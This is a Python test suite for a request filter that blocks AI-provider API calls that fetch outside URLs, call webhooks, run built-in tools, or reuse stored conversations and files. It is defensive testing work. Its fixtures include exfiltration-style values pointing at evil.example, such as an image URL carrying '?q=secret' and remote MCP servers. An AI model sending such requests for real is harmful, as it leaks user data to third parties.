"""Requests that make a provider an exit or a shared drawer (ABUSE 45, 60), and honest ones that don't."""

from __future__ import annotations

import copy
import re
import tomllib
from collections.abc import Iterator
from importlib import resources
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridgehold.policies import fields, shipped
from bridgehold.policies.compose import compose
from bridgehold.policies.content import (
    MAX_DEPTH,
    MAX_VALUES,
    BodyFacts,
    ParsedRequest,
    body_facts,
    head_facts,
)

CHAT, RESPONSES, MESSAGES = "/chat/completions", "/responses", "/messages"
GENERATE = "/models/gemini-3-pro:generateContent"
Case = tuple[str, str, dict[str, Any]]
PNG = "data:image/png;base64,AA"


def chat(content: Any = "x", **more: Any) -> Case:
    return "openai", CHAT, {"model": "gpt-5", "messages": [{"role": "user", "content": content}], **more}


def respond(items: Any = "x", **more: Any) -> Case:
    return "openai", RESPONSES, {"model": "gpt-5", "input": items, **more}


def message(content: Any = "x", **more: Any) -> Case:
    said = [{"role": "user", "content": content}]
    return "anthropic", MESSAGES, {"model": "claude-x", "max_tokens": 9, "messages": said, **more}


def generate(*parts: Any, **more: Any) -> Case:
    return "gemini", GENERATE, {"contents": [{"role": "user", "parts": list(parts)}], **more}


def facts(case: Case, *granted: str, host: str = "", **more: Any) -> BodyFacts:
    shape, path, body = case
    return body_facts(shape, ParsedRequest(path=path, body=body, host=host, **more), granted)


SCHEMA = {
    "type": "object", "$defs": {"a": {"$ref": "#/$defs/a"}}, "$schema": "http://json-schema.org/draft-07/schema#",
    "properties": {"url": {"type": "string", "default": "https://x"}, "image_url": {"$ref": "#/$defs/a"}, "$ref": {}},
}  # fmt: skip

HONEST: list[Case] = [
    chat("See https://example.com/file_id and tools"),
    chat([{"type": "text", "text": "https://x"}, {"type": "image_url", "image_url": {"url": PNG, "detail": "low"}}]),
    chat([{"type": "image_url", "image_url": {"url": "DATA:image/png;base64,AA"}}, {"type": "file", "file": {"file_data": PNG}}]),
    chat(tools=[{"type": "function", "function": {"name": "open", "parameters": SCHEMA, "strict": True}}], tool_choice="auto"),
    chat(tool_choice={"type": "function", "function": {"name": "f"}}, parallel_tool_calls=False, n=2, stop=["a"], seed=1),
    chat(response_format={"type": "json_schema", "json_schema": {"name": "a", "schema": SCHEMA, "strict": True}}),
    chat(store=False, previous_response_id=None, tools=[], temperature=1, top_p=0.5, stream=True, stream_options={"include_usage": True}),
    chat(metadata={"url": "https://x", "a_b": "1", "ab": "2"}, logit_bias={"123": -100}),
    ("openai", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "refusal": None, "tool_calls": [
        {"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"url": "https://x"}'}}]},
        {"role": "tool", "tool_call_id": "c", "content": "1"}]}),
    ("openai", "/completions", {"model": "m", "prompt": ["a", "b"], "max_tokens": 3}),
    ("openai", "/v1/embeddings", {"model": "text-embedding-3-small", "input": [[1, 2, 3], [4]], "encoding_format": "base64"}),
    ("openai", "/embeddings", {"model": "text-embedding-3-small", "input": list(range(300_000))}),
    respond(store=False, text={"format": {"type": "json_schema", "name": "a", "schema": SCHEMA}}, reasoning={"effort": "low"}),
    respond([{"role": "user", "content": [{"type": "input_text", "text": "x"}, {"type": "input_image", "image_url": PNG}]},
             {"type": "function_call", "id": "fc", "call_id": "c", "name": "f", "arguments": "{}"},
             {"type": "function_call_output", "call_id": "c", "output": "1"},
             {"type": "message", "id": "m", "role": "assistant", "content": [{"type": "output_text", "text": "a", "annotations": []}]},
             {"type": "reasoning", "id": "rs", "summary": [], "encrypted_content": "e"}], include=["reasoning.encrypted_content"]),
    respond(tools=[{"type": "function", "name": "f", "parameters": SCHEMA, "strict": None}, {"type": "custom", "name": "g"}]),
    message([{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AA"}},
             {"type": "tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": "x", "cache_control": {"type": "ephemeral"}}]}],
            tools=[{"name": "f", "input_schema": SCHEMA}], tool_choice={"type": "auto"}, system="be brief", thinking={"type": "disabled"}),
    ("anthropic", "/v1/messages", {"model": "claude", "max_tokens": 1, "messages": [{"role": "assistant", "content": [
        {"type": "tool_use", "id": "t", "name": "f", "input": {"url": "https://x", "a_b": 1, "ab": 1}}]}]}),
    generate({"functionCall": {"name": "f", "args": {"uri": "https://x"}}}, {"inlineData": {"mimeType": "a", "data": "bbbb"}},
             tools=[{"functionDeclarations": [{"name": "f", "parameters": SCHEMA}]}], generationConfig={"responseSchema": SCHEMA, "topK": 1}),
    ("gemini", "/v1beta" + GENERATE, {"contents": [{"parts": [{"inline_data": {"mime_type": "a", "data": "bbbb"}}]}],
                                      "system_instruction": {"parts": [{"text": "x"}]}, "generation_config": {"max_output_tokens": 5}}),
]  # fmt: skip

EXITS: list[Case] = [
    # what the provider would fetch
    chat([{"type": "image_url", "image_url": {"url": "https://evil.example/?q=secret"}}]),
    chat([{"type": "image_url", "image_url": "http://evil.example"}]),
    chat([{"type": "image_url", "image_url": {"url": " data:x"}}]),
    chat([{"type": "file", "file": {"file_data": "https://evil.example/x.pdf"}}]),
    chat([{"type": "video_url", "video_url": {"url": "ftp://evil.example"}}]),
    chat(tools=[{"type": "function", "function": {"name": "f", "parameters": {"$ref": "https://evil.example/schema"}}}]),
    message(tools=[{"name": "f", "input_schema": {"$schema": "https://evil.example/schema"}}]),
    respond([{"role": "user", "content": [{"type": "input_image", "image_url": "https://evil.example"}]}]),
    respond([{"role": "user", "content": [{"type": "input_file", "file_url": "https://evil.example"}]}]),
    respond([{"type": "function_call_output", "call_id": "c", "output": [{"type": "input_image", "image_url": "https://evil.example"}]}]),
    message([{"type": "image", "source": {"type": "url", "url": "https://evil.example"}}]),
    message([{"type": "document", "source": {"type": "url", "url": "https://evil.example"}}]),
    message([{"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": {"type": "url", "url": "https://x"}}]}]),
    generate({"fileData": {"fileUri": "gs://x"}}),
    generate({"file_data": {"file_uri": "gs://x"}}),
    generate({"functionResponse": {"name": "f", "response": {}, "parts": [{"fileData": {"fileUri": "gs://x"}}]}}),
    ("openai", "/images/generations", {"model": "m", "prompt": "x", "reference_images": ["https://evil.example"]}),
    # whom it would call back
    *(chat(**{name: "https://evil.example"}) for name in ("webhook", "webhook_url", "callback", "callback_url", "notify_url")),
    generate(webhookConfig={"uris": ["https://evil.example"]}),
    # what it would run
    *(respond(tools=[{"type": kind}]) for kind in
      ("web_search", "web_search_preview", "web_search_2025_08_26", "file_search", "code_interpreter", "mcp", "computer_use_preview",
       "image_generation", "shell", "programmatic_tool_calling")),
    respond(tools=[{"type": "function", "name": "f"}, {"type": "mcp", "server_url": "https://evil.example"}]),
    respond(tool_choice={"type": "web_search_preview"}),
    chat(web_search_options={}), chat(plugins=[{"id": "web"}]), chat(mcp_servers=[{"type": "url"}]), chat(data_sources=[{}]),
    chat(search_parameters={"mode": "on"}),
    message(mcp_servers=[{"type": "url", "url": "https://evil.example"}]),
    message(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    message(tools=[{"type": "code_execution_20250825", "name": "x"}]),
    generate(tools=[{"googleSearch": {}}]), generate(tools=[{"functionDeclarations": [], "url_context": {}}]),
    generate(tools=[{"retrieval": {"vertexRagStore": {}}}]),
    ("openai", CHAT, {"model": "gpt-4o-search-preview", "messages": []}),
    ("openai", CHAT, {"model": "meta/llama:online", "messages": []}),
    ("openai", CHAT, {"model": "perplexity/sonar", "messages": []}),
    ("openai", CHAT, {"model": "groq/compound-mini", "messages": []}),
    ("openai", RESPONSES, {"model": "o3-deep-research", "input": "x"}),
    ("gemini", "/models/aqa:generateContent", {"contents": []}),
    ("gemini", "/models/gemini-3:online:generateContent", {"contents": []}),
    ("openai", "/deployments/gpt-4o-search-preview/chat/completions", {"messages": []}),
    # what it would look up or keep
    respond(previous_response_id="resp_1"), respond(conversation="conv_1"), respond(conversation={"id": "conv_1"}),
    respond(store=True), respond(background=True), respond(prompt={"id": "pmpt_1"}), respond(vector_store_ids=["vs_1"]),
    respond(container="cntr_1"), respond(background_options={"continuation_id": "x"}),
    respond(prompt_cache_options={"comparison_response_id": "resp_1"}),
    respond([{"type": "item_reference", "id": "msg_1"}]), respond([{"id": "msg_1"}]), respond([{"type": None, "id": "msg_1"}]),
    respond([{"type": "message", "id": "msg_1", "role": "assistant"}]), respond([{"type": "image_generation_call", "id": "ig_1"}]),
    respond([{"type": "reasoning", "id": "rs_1", "summary": []}]),
    respond([{"role": "user", "content": [{"type": "input_file", "file_id": "file_1"}]}]),
    respond([{"role": "user", "content": [{"type": "input_image", "file_id": "file_1"}]}]),
    chat([{"type": "file", "file": {"file_id": "file_1"}}]), chat(store=True), chat(agent_id="ag_1"), chat(thread_id="t"),
    message(container="c"), message(thread={"id": "t"}), message(user_profile_id="u"), message(workspace_id="w"),
    message(fallback_credit_token="t"), message([{"type": "container_upload", "file_id": "f"}]),
    message([{"type": "image", "source": {"type": "file", "file_id": "f"}}]),
    generate(cachedContent="cachedContents/x"), generate(cached_content="cachedContents/x"), generate(store=True),
    ("openai", CHAT, {"model": "ft:gpt-4o:org::abc", "messages": []}),
    # who would answer instead
    chat(models=["a", "b"]), chat(route="fallback"), message(fallbacks=[{"model": "x"}]),
]  # fmt: skip

UNKNOWN: list[tuple[Case, str]] = [
    (chat(frobnicate=1), "frobnicate"),
    (chat(IMAGE_URL="x"), "IMAGE_URL"),
    (chat(Tools=[{"type": "web_search"}]), "Tools"),
    ((*chat()[:2], {**chat()[2], "ſtore": True}), "'ſtore'"),
    (chat([{"type": "image_url", "imageUrl": {"URL": "https://evil.example"}}]), "messages[].content[].imageUrl"),
    (chat([{"type": "text", "text": "x", "more": 1}]), "messages[].content[].more"),
    (chat([[{"image_url": "https://evil.example"}]]), "messages[].content[]"),
    (chat(temperature="hot"), "temperature"),
    (chat(max_tokens=1e5), "max_tokens"),
    (chat(n=True), "n=true"),
    (chat(extra={"parameters": {"image_url": "https://evil.example"}}), "extra"),
    (chat(store="true"), "store=true"),
    (chat(model="a,b"), "model=a,b"),
    (chat(model=["a", "b"]), "model"),
    (chat(tools={"type": "web_search"}), "tools"),
    (respond(tools=["web_search"]), "tools[]"),
    (respond(tools=[{"type": 3}]), "tools[].type=3"),
    (message(diagnostics={}), "diagnostics"),
    (message(context_management={"edits": []}), "context_management"),
    (generate({"text": "x", "partMetadata": {}}), "contents[].parts[].partMetadata"),
    (generate({"thought_signature": "a", "thoughtSignature": "b"}), "contents[].parts[].thoughtSignature"),
    (generate({"inline_Data": {}}), "contents[].parts[].inline_Data"),
]  # fmt: skip


@pytest.mark.parametrize("case", HONEST)
def test_inference_is_inference(case: Case) -> None:
    assert facts(case).first == ""
    assert facts(("custom", *case[1:])).first == ""


@pytest.mark.parametrize("case", EXITS)
def test_what_leads_out_or_is_kept_is_refused_and_named(case: Case) -> None:
    found = facts(case).finding
    assert found is not None
    assert found.exit, found
    grants: list[str] = []
    while (left := facts(case, *grants).finding) is not None:
        assert left.grants[0] not in grants
        grants.append(left.grants[0])


@pytest.mark.parametrize(("case", "grant"), UNKNOWN)
def test_what_is_not_known_is_refused_and_says_what_grants_it(case: Case, grant: str) -> None:
    found = facts(case).finding
    assert found is not None
    assert found.grants[0] == grant or found.grants[-1] == grant, found
    if grant[0] != "'":
        assert facts(case, grant).first == ""
        assert facts(case, "*").first == ""
        assert facts(case, f"{grant}x", "a", "messages[].x", "?x").first, "a grant is for what it names"


def test_a_grant_opens_what_it_names_and_nothing_beside_it() -> None:
    two = respond(
        tools=[{"type": "web_search", "filters": {"a": 1}}, {"type": "mcp", "server_url": "https://x"}]
    )
    assert (
        facts(two, "tools[].type=web_search").first
        == "the provider would run a tool of its own: tools[1].type"
    )
    assert facts(two, "tools[].type").first == ""
    url = chat([{"type": "image_url", "image_url": {"url": "https://x"}}], web_search_options={})
    assert facts(url, "messages[].content[].image_url").first.endswith(": web_search_options")
    assert facts(respond([], **{"tools[].type=x": 1}), "tools[].type=x").finding is not None, (
        "a name is no place"
    )
    dots = ("openai", CHAT, {"model": "gpt-4o-search.evil", "messages": []})
    assert facts(dots, "model=gpt-4o-search").finding is not None


PICTURE = {"type": "image_url", "image_url": {"url": PNG, "detail": "high"}}
BYTES = {"type": "base64", "media_type": "application/pdf", "data": "JVBE"}
COSTS: list[tuple[Case, tuple[str, ...], int, int]] = [  # images, and what may fill a window
    (chat(), (), 0, 0),
    (chat([PICTURE] * 10), (), 10, 0),
    (chat([{"type": "image_url", "image_url": PNG}]), (), 1, 0),
    (chat([{"type": "image_url", "image_url": {"url": "DATA:application/pdf;base64,AA"}}]), (), 0, 1),
    (chat([{"type": "image_url", "image_url": {"url": "data:;base64,AA"}}]), (), 0, 1),
    (chat([{"type": "file", "file": {"file_data": "AA"}}]), (), 0, 1),
    (chat([{"type": "input_audio", "input_audio": {"data": "AA", "format": "mp3"}}]), (), 0, 1),
    (chat(prediction={"type": "content", "content": [PICTURE]}), (), 1, 0),
    (chat([{"type": "image_url", "image_url": {"url": "https://x"}}]), ("messages",), 1, 0),
    (chat([{"type": "video_url", "video_url": {"url": "https://x"}}]), ("messages[].content[].type=video_url",), 0, 1),
    (chat(web_search_options={}), ("*",), 0, 1),
    (chat(store=None, frobnicate=1), ("frobnicate",), 0, 0),
    (("openai", "/completions", {"model": "m", "prompt": "data:image/png;base64,AA"}), (), 0, 0),
    (respond([{"role": "user", "content": [{"type": "input_image", "image_url": PNG}]}] * 3), (), 3, 0),
    (respond([{"type": "function_call_output", "call_id": "c", "output": [{"type": "input_file", "file_data": "AA"}]}]), (), 0, 1),
    (respond([], previous_response_id="resp_1"), ("previous_response_id",), 0, 1),
    (("openai", "/moderations", {"model": "m", "input": [{"type": "image_url", "image_url": {"url": PNG}}]}), (), 0, 0),
    (message([{"type": "image", "source": {**BYTES, "media_type": "image/png"}}] * 2), (), 2, 0),
    (message([{"type": "document", "source": BYTES}]), (), 0, 1),
    (message([{"type": "document", "source": {"type": "text", "data": "x", "media_type": "text/plain"}}]), (), 0, 0),
    (message([{"type": "tool_result", "tool_use_id": "t", "content": [{"type": "document", "source": BYTES}]}]), (), 0, 1),
    (message([{"type": "redacted_thinking", "data": "AAAA"}]), (), 0, 0),
    (message(tools=[{"type": "web_search_20250305", "name": "web_search"}]), ("tools[].type",), 0, 1),
    (("anthropic", "/messages/count_tokens", message([{"type": "document", "source": BYTES}])[2]), (), 0, 0),
    (generate({"inlineData": {"mimeType": "image/png", "data": "AA"}}), (), 1, 0),
    (generate({"inline_data": {"mime_type": "IMAGE/webp", "data": "AA"}}), (), 1, 0),
    (generate({"inlineData": {"mimeType": "video/mp4", "data": "AA"}}, {"inlineData": {"data": "AA"}}), (), 0, 2),
    (generate({"inlineData": {"mimeType": "text/csv", "data": "AA"}}), (), 0, 0),
    (generate({"functionResponse": {"name": "f", "parts": [{"inlineData": {"mimeType": "audio/wav", "data": "AA"}}]}}), (), 0, 1),
    (generate({"text": "x", "thoughtSignature": "AA"}), (), 0, 0),
    (generate(cachedContent="cachedContents/x"), ("cachedContent",), 0, 1),
    (("gemini", "/models/e:embedContent", {"content": {"parts": [{"inlineData": {"mimeType": "video/mp4", "data": "AA"}}]}}), (), 0, 1),
]  # fmt: skip


@pytest.mark.parametrize(("case", "granted", "images", "windows"), COSTS)
def test_what_is_no_text_costs_what_a_provider_may_bill_for_it(
    case: Case, granted: tuple[str, ...], images: int, windows: int
) -> None:
    media = fields.shape_of(case[0]).media
    found = facts(case, *granted)
    assert found.first == ""
    assert found.media == min(images * media.image + windows * media.window, media.window)
    assert facts(("custom", *case[1:]), "*").media >= found.media
    assert facts(case, "*").media >= found.media


def test_no_place_of_the_tables_takes_bytes_of_unknown_cost() -> None:
    """A type that lets bytes in says what they are, or the file can't be read."""
    with pytest.raises(KeyError):
        fields._Reader({"types": {}}).node("inline")
    text = "".join(
        resources.files("bridgehold.policies").joinpath("inference", f"{shape}.toml").read_text()
        for shape in fields.SHAPES
    )
    assert set(re.findall(r"(?:data|inline)\((\w+)\)", text)) == {"image", "file", "typed", "sealed"}


def test_a_stream_is_asked_for_its_usage_whatever_the_request_says() -> None:
    asked = (("stream_options", {"include_usage": True}),)
    for path, body in ((CHAT, chat()[2]), ("/completions", {"model": "m", "prompt": "x"})):

        def of(*granted: str, own: dict[str, Any] = body, at: str = path, **more: Any) -> BodyFacts:
            return facts(("openai", at, {**own, **more}), *granted)

        assert not of().unasked
        assert of(stream=False).forced == ()
        assert (of(stream=True).forced, of(stream=True).unasked) == (asked, True)
        assert of(stream=True, stream_options={"include_usage": False}).forced == asked
        whole = of(stream=True, stream_options={"include_usage": True, "include_obfuscation": False})
        assert (whole.forced, whole.unasked) == ((), False)
        kept = of(stream=True, stream_options={"include_obfuscation": False}).forced[0][1]
        assert kept == {"include_obfuscation": False, "include_usage": True}
        for grant in ("stream_options", "stream_options.include_usage", "*"):
            assert of(grant, stream=True).forced == (), "the provider's default stands"
    assert facts(respond(stream=True)).forced == KEPT_NOT


DEARER: list[tuple[Case, dict[str, str], str]] = [  # a price that nobody counts
    (chat(service_tier="priority"), {}, "service_tier"),
    (respond(service_tier="scale"), {}, "service_tier"),
    (respond(reasoning={"mode": "pro"}), {}, "reasoning.mode"),
    (message(service_tier="priority"), {}, "service_tier"),
    (message(speed="fast"), {}, "speed=fast"),
    (message(inference_geo="us"), {}, "inference_geo=us"),
    (message(), {"anthropic-beta": "fast-mode-2026-02-01"}, "anthropic-beta=fast-mode-2026-02-01"),
    (message(), {"anthropic-beta": "context-1m-2025-08-07"}, "anthropic-beta"),
    (generate(service_tier="PRIORITY"), {}, "service_tier"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "headers", "grant"), DEARER)
def test_what_makes_a_token_dearer_needs_a_grant(case: Case, headers: dict[str, str], grant: str) -> None:
    sent = tuple(headers.items())
    assert facts(case, headers=sent).finding is not None
    assert facts(case, grant, headers=sent).first == ""
    assert facts(case, grant, headers=sent).media == 0
    for same in ({"service_tier": "auto"}, {"service_tier": "default"}, {"service_tier": "flex"}):
        assert facts(chat(**same)).first == ""
    assert facts(message(service_tier="standard_only", speed="standard", inference_geo="global")).first == ""


KEPT_NOT = (("store", False),)


def test_answers_that_a_provider_keeps_by_default_are_sent_as_not_to_be_kept() -> None:
    assert facts(respond()).forced == KEPT_NOT
    assert facts(respond(store=None)).forced == KEPT_NOT
    assert facts(respond(store=False)).forced == ()
    assert facts(respond(), "store").forced == ()
    assert facts(respond(store=True), "store").first == ""
    assert facts(chat(), host="api.openai.com").forced == KEPT_NOT
    assert facts(chat(), host="eu.api.openai.com").forced == KEPT_NOT
    assert facts(chat(), host="127.0.0.1").forced == ()


def test_queries_and_headers_are_fields_too() -> None:
    cases: list[tuple[str, tuple[tuple[str, str], ...], tuple[tuple[str, str], ...], str]] = [
        ("gemini", (("alt", "sse"),), (), ""),
        ("gemini", (("alt", "proto"),), (), "?alt=proto"),
        ("gemini", (("$fields", "x"),), (), "?$fields"),
        ("gemini", (("callback", "x"),), (), "?callback"),
        ("openai", (("api-version", "2024-06-01"),), (("user-agent", "x"), ("accept", "*/*")), ""),
        ("openai", (("purpose", "leak"),), (), "?purpose"),
        ("openai", (), (("openai-beta", "assistants=v2"),), "openai-beta=assistants=v2"),
        ("openai", (), (("idempotency-key", "k"),), "idempotency-key=k"),
        ("anthropic", (("beta", "true"),), (("anthropic-version", "2023-06-01"),), ""),
        ("anthropic", (), (("anthropic-beta", "interleaved-thinking-2025-05-14"),), ""),
        ("anthropic", (), (("anthropic-beta", "prompt-caching-2024-07-31, files-api-2025-04-14"),), "anthropic-beta=files-api-2025-04-14"),
        ("anthropic", (), (("anthropic-beta", "mcp-client-2025-04-04"),), "anthropic-beta=mcp-client-2025-04-04"),
    ]  # fmt: skip
    whole = {"openai": chat(), "anthropic": message(), "gemini": generate({"text": "x"})}
    for shape, query, headers, grant in cases:
        found = facts(whole[shape], query=query, headers=headers).finding
        assert (found.grants[0] if found is not None else "") == grant
        assert facts(whole[shape], grant, query=query, headers=headers).first == ""


KEPT = [  # what stands there is the account's: every holder of the key sees it, changes it or removes it
    ("openai", "POST", "/threads"), ("openai", "POST", "/conversations"), ("openai", "GET", "/files"),
    ("openai", "GET", "/files/x/content"), ("openai", "GET", "/conversations/c/items"), ("openai", "DELETE", "/models/ft:x"),
    ("openai", "POST", "/responses/r/cancel"), ("openai", "GET", "/chat/completions"), ("openai", "HEAD", "/responses"),
    ("openai", "GET", "/v1/responses/r"), ("openai", "PUT", "/chat/completions"), ("openai", "POST", "/models"),
    ("openai", "POST", "/chat/completions/x"), ("openai", "POST", "/chat"), ("openai", "POST", "/v1/v1/chat/completions"),
    ("anthropic", "GET", "/messages/batches"), ("anthropic", "POST", "/files"), ("gemini", "GET", "/cachedContents"),
    ("gemini", "DELETE", "/files/f"), ("gemini", "POST", "/interactions"), ("custom", "POST", "/rerank"), ("custom", "GET", "/"),
]  # fmt: skip


@pytest.mark.parametrize(("shape", "method", "path"), KEPT)
@pytest.mark.parametrize("body", [None, {}, chat()[2]])
def test_another_path_or_method_is_no_inference_with_or_without_a_body(
    shape: str, method: str, path: str, body: dict[str, Any] | None
) -> None:
    asked = ParsedRequest(path=path, method=method, body=body)
    found = body_facts(shape, asked).finding
    assert found is not None
    assert found == head_facts(shape, asked).finding, "its head alone says so"
    assert found.place in ("(path)", "(method)")
    narrow = found.grants[0]
    for grant in found.grants:
        assert head_facts(shape, asked, (grant,)).finding is None
        assert body or not head_facts(shape, asked, (grant, "(body)", "(no body)")).first
        text = f'extends = "dspy"\n[network.endpoints.openai]\nfields = ["{grant}"]\n'
        compose("own", lambda name, text=text: (text, "own.toml") if name == "own" else shipped.read(name))
    for other in (ParsedRequest(path="/other", method="POST"), ParsedRequest(path="/models", method="PATCH")):
        assert head_facts(shape, other, (narrow,)).finding is not None


def test_a_path_that_is_granted_has_no_field_that_is() -> None:
    case = ("custom", "/rerank", {"query": "x"})
    assert facts(case, "(path)").first == "no field that is known: query"
    assert facts(case, "(path)=/rerank", "query").first == ""
    interactions = ("gemini", "/interactions", {"previous_interaction_id": "i"})
    assert facts(interactions, "(path)").first.endswith("stored object: previous_interaction_id")
    assert facts(("openai", "/models", {"a": 1}), "(method)").finding is not None


def test_a_model_is_listed_by_get_and_head_and_all_else_is_posted() -> None:
    for shape in fields.SHAPES:
        for row in fields.shape_of(shape).rows:
            assert row.methods == (("POST",) if row.body is not None else ("GET", "HEAD"))


def test_what_can_not_be_judged_is_said() -> None:
    deep: Any = "x"
    for _ in range(MAX_DEPTH):
        deep = [{"type": "tool_result", "tool_use_id": "t", "content": deep}]
    assert facts(message(deep)).unreadable.startswith("deeper than")
    many = chat([{"type": "text"}] * (MAX_VALUES + 1))
    assert facts(many).unreadable.startswith("more than")


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.sampled_from(["a", "tools", "input", "type", "role", "model", "contents", "content"]), inner),
    max_leaves=20,
)  # fmt: skip


@given(st.sampled_from(HONEST), JSON, JSON)
def test_any_body_has_an_answer(case: Case, one: Any, other: Any) -> None:
    shape, path, body = case
    facts((shape, path, {**body, "messages": one, "contents": one, "input": one, "tools": other}))


def _objects(value: Any, kept: tuple[str, ...] = ()) -> Iterator[dict[str, Any]]:
    """Every object of a body that its provider reads, and not what is the caller's own."""
    if isinstance(value, dict):
        yield value
        for name, item in value.items():
            own = (
                "parameters",
                "schema",
                "input_schema",
                "args",
                "responseSchema",
                "metadata",
                "logit_bias",
                "response",
            )
            if name not in own and not (name == "input" and value.get("type") == "tool_use"):
                yield from _objects(item)
    elif isinstance(value, list):
        for item in value:
            yield from _objects(item)


def test_a_field_that_is_not_known_is_refused_wherever_it_stands() -> None:
    for shape, path, given_body in HONEST:
        for place in range(sum(1 for _ in _objects(given_body))):
            body = copy.deepcopy(given_body)
            list(_objects(body))[place]["zz_new"] = {"url": "https://evil.example"}
            found = facts((shape, path, body)).finding
            assert found is not None, body
            assert found.place.endswith("zz_new")


def test_no_place_of_content_takes_an_address() -> None:
    """Of every honest body, each text is made a URL once: it passes where a text is read as text, only."""
    content = {"url", "image_url", "data", "file_data", "thoughtSignature", "role", "type", "model"}
    passed, refused = set(), set()
    for shape, path, given_body in HONEST:
        for place, table in enumerate(_objects(given_body)):
            for name in [name for name, value in table.items() if isinstance(value, str)]:
                for address in (
                    "https://evil.example/x",
                    "gs://evil/x",
                    "//evil.example/x",
                    "evil.example",
                    "file:/x",
                ):
                    body = copy.deepcopy(given_body)
                    list(_objects(body))[place][name] = address
                    (refused if facts((shape, path, body)).first else passed).add(name)
    assert {"url", "image_url", "data", "file_data", "model"} <= refused
    assert passed.isdisjoint(content - {"role", "model"}), passed


@pytest.mark.parametrize("shape", fields.SHAPES)
def test_every_type_of_the_tables_is_used(shape: str) -> None:
    text = resources.files("bridgehold.policies").joinpath("inference", f"{shape}.toml").read_text()
    file = tomllib.loads(text)
    assert fields.shape_of(shape).rows
    for name in (*file.get("types", {}), *file.get("unions", {})):
        assert re.search(rf"(?<![\w.]){name}(?!\w)", text), f"{name} is used nowhere"


@pytest.mark.parametrize(
    ("path", "body", "place"),
    [
        ("/chat/completions", None, "(no body)"),  # lists what the account keeps
        ("/responses", None, "(no body)"),
    ],
)
def test_a_request_whose_body_says_nothing_is_judged_too(path: str, body: Any, place: str) -> None:
    found = body_facts("openai", ParsedRequest(path=path, body=body))
    assert place in str(found)
    assert not body_facts("openai", ParsedRequest(path=path, body=body), (place,)).first
    text = f'extends = "dspy"\n[network.endpoints.openai]\nfields = ["{place}"]\n'
    own = compose("own", lambda name: (text, "own.toml") if name == "own" else shipped.read(name))
    assert own is not None, "the grant can be written"
